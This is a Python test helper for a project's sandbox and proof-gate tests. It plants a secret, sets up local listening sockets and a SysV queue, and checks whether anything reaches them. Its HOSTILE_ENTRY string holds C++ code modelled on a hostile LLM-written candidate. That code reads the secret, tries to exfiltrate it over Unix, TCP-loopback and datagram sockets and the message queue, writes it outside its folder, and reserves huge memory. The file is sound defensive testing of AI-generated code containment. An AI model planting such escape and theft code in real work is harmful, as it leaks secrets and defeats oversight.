"""What a hostile candidate would reach for, owned by the test: a secret outside its folder, a
victim process, listening sockets of every kind (a daemon's unix socket, an abstract one, TCP,
a datagram socket like journald's /dev/log) and a SysV message queue; and what reached them.
Shared by the sandbox's hostile tests (tests/integration/test_sandbox.py) and the proof gate's
(tests/gpu/test_proof_gate_gpu.py and the CPU ones)."""

from __future__ import annotations

import contextlib
import ctypes
import os
import socket
import subprocess
import sys
import uuid
from pathlib import Path

SECRET = "kernel-lsp-planted-secret-7f3a"


def scheduling(pid: int) -> tuple[int, set[int], int]:
    """A process's nice value, CPU affinity and scheduling policy."""
    return os.getpriority(os.PRIO_PROCESS, pid), os.sched_getaffinity(pid), os.sched_getscheduler(pid)


class SysV:
    """The test's own SysV message queue (and the key a semaphore would take), through libc."""

    def __init__(self) -> None:
        self.libc = ctypes.CDLL(None, use_errno=True)
        while True:  # a key of its own: IPC_EXCL fails on one in use
            self.key = int.from_bytes(os.urandom(4), "little") & 0x7FFFFFFF
            self.queue = self.libc.msgget(self.key, 0o3600)  # IPC_CREAT | IPC_EXCL | 0600
            if self.queue != -1:
                break

    def messages(self) -> list[bytes]:
        buffer = ctypes.create_string_buffer(8 + 512)
        found = []
        while True:
            got = self.libc.msgrcv(self.queue, buffer, 512, 0, 0o4000)  # IPC_NOWAIT
            if got == -1:
                return found
            found.append(buffer.raw[8 : 8 + got])

    def semaphore_made(self) -> bool:
        found = self.libc.semget(self.key, 0, 0)
        if found != -1:
            self.libc.semctl(found, 0, 0)  # IPC_RMID
        return found != -1

    def close(self) -> None:
        self.libc.msgctl(self.queue, 0, None)  # IPC_RMID
        self.libc.mq_unlink(b"/kernel-lsp-test")


class Targets:
    """Made in `root`; `close()` ends them. `received()` says what reached each listener."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.home = root / "home"
        self.home.mkdir(parents=True)
        self.secret_path = self.home / "secret"
        self.secret_path.write_text(SECRET)
        self.outside = root / "written-from-the-sandbox.txt"
        self.victim = subprocess.Popen(
            [sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True
        )
        self.victim_scheduling = scheduling(self.victim.pid)
        self.sysv = SysV()
        self.abstract = f"kernel-lsp-test-{uuid.uuid4().hex}"
        self.unix_path, self.dgram_path = str(root / "daemon.sock"), str(root / "log.sock")
        self.listeners = {
            "connect unix path": socket.socket(socket.AF_UNIX),
            "connect unix abstract": socket.socket(socket.AF_UNIX),
            "connect tcp": socket.socket(socket.AF_INET),
        }
        self.listeners["connect unix path"].bind(self.unix_path)
        self.listeners["connect unix abstract"].bind("\0" + self.abstract)
        self.listeners["connect tcp"].bind(("127.0.0.1", 0))
        for s in self.listeners.values():
            s.listen()
            s.setblocking(False)
        self.tcp_port = self.listeners["connect tcp"].getsockname()[1]
        self.dgram = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)  # a daemon's (/dev/log)
        self.dgram.bind(self.dgram_path)
        self.dgram.setblocking(False)

    def connected(self) -> dict[str, bool]:
        """Which listening socket was connected to since the last call."""
        found = {}
        for name, s in self.listeners.items():
            try:
                s.accept()[0].close()
                found[name] = True
            except BlockingIOError:
                found[name] = False
        return found

    def datagrams(self) -> list[bytes]:
        got = []
        with contextlib.suppress(BlockingIOError):
            while True:
                got.append(self.dgram.recv(4096))
        return got

    def close(self) -> None:
        self.victim.kill()
        self.victim.wait()
        self.sysv.close()
        for s in [*self.listeners.values(), self.dgram]:
            s.close()


# Host code that reads the planted secret and tries every way out with it, then does its job
# (BODY): as a candidate an LLM wrote might, past the fence. Placeholders are filled by `hostile`.
HOSTILE_ENTRY = r"""
#include <cstdio>
#include <cstddef>
#include <cstring>
#include <fcntl.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/socket.h>
#include <sys/un.h>

static char secret[256];

static void to_unix(int type, const char* name, bool abstract)
{
    int s = socket(AF_UNIX, type, 0);
    if (s < 0) {  // no socket(): a socketpair's end takes an address too
        int pair[2];
        if (socketpair(AF_UNIX, type, 0, pair) != 0) return;
        s = pair[0];
    }
    sockaddr_un a{};
    a.sun_family = AF_UNIX;
    strncpy(a.sun_path + (abstract ? 1 : 0), name, sizeof a.sun_path - 2);
    if (type == SOCK_DGRAM)
        sendto(s, secret, strlen(secret) + 1, 0, (sockaddr*)&a, sizeof a);
    else if (connect(s, (sockaddr*)&a, sizeof a) == 0)
        send(s, secret, strlen(secret) + 1, 0);
    close(s);
}

static void get_out()
{
    int fd = open("@SECRET_PATH@", O_RDONLY);
    if (fd >= 0) {
        if (read(fd, secret, sizeof secret - 1) < 0) secret[0] = 0;
        close(fd);
    } else {
        strcpy(secret, "no secret");
    }
    to_unix(SOCK_DGRAM, "@DGRAM_PATH@", false);
    to_unix(SOCK_STREAM, "@UNIX_PATH@", false);
    to_unix(SOCK_STREAM, "@ABSTRACT@", true);
    int t = socket(AF_INET, SOCK_STREAM, 0);
    if (t >= 0) {
        sockaddr_in in{};
        in.sin_family = AF_INET;
        in.sin_port = htons(@TCP_PORT@);
        in.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        if (connect(t, (sockaddr*)&in, sizeof in) == 0) send(t, secret, strlen(secret) + 1, 0);
        close(t);
    }
    int q = msgget(@MSG_KEY@, 0);
    if (q >= 0) {
        struct { long type; char text[256]; } m;
        m.type = 1;
        memcpy(m.text, secret, sizeof m.text);
        msgsnd(q, &m, sizeof m.text, IPC_NOWAIT);
    }
    FILE* f = fopen("@OUTSIDE@", "w");
    if (f) { fputs(secret, f); fclose(f); }
    void* big = mmap(nullptr, 12ull << 30, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (big != MAP_FAILED) memset(big, 1, 1 << 20);
}
@BODY@
"""


def hostile(targets: Targets, body: str) -> str:
    """HOSTILE_ENTRY aimed at `targets`, with `body` (kernels and the `extern "C"` entry, which
    should call get_out() first)."""
    fill = {
        "@SECRET_PATH@": str(targets.secret_path),
        "@DGRAM_PATH@": targets.dgram_path,
        "@UNIX_PATH@": targets.unix_path,
        "@ABSTRACT@": targets.abstract,
        "@TCP_PORT@": str(targets.tcp_port),
        "@MSG_KEY@": str(targets.sysv.key),
        "@OUTSIDE@": str(targets.outside),
        "@BODY@": body,
    }
    text = HOSTILE_ENTRY
    for key, value in fill.items():
        text = text.replace(key, value)
    return text


def nothing_got_out(targets: Targets) -> list[str]:
    """What reached the targets (empty: nothing did)."""
    got = [name for name, yes in targets.connected().items() if yes]
    got += [f"datagram {d[:40]!r}" for d in targets.datagrams()]
    got += [f"queue {m[:40]!r}" for m in targets.sysv.messages()]
    if targets.outside.exists():
        got.append(f"file {targets.outside.read_text()[:40]!r}")
    return got
